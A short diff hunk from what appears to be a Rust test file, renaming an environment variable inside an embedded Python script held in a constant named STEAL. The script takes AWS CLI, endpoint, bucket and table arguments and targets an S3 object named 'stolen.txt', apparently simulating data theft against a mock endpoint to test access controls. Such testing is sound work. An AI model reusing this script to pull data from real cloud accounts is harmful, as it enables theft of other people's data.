@@ -10,7 +10,7 @@ const STEAL: &str = r#"import os, subprocess, sys
 aws, endpoint, region, bucket, component, table = sys.argv[1:]
 goal = f"s3://{bucket}/artifacts/{component}/stolen.txt"
 base = {"PATH": os.environ["PATH"], "HOME": os.environ["HOME"], "AWS_ENDPOINT_URL": endpoint,
-        "AWS_REGION": region, "AWS_EC2_METADATA_DISABLED": "true"}
+        "AWS_DEFAULT_REGION": region, "AWS_EC2_METADATA_DISABLED": "true"}
 
 
 def run(what, extra, *arguments):
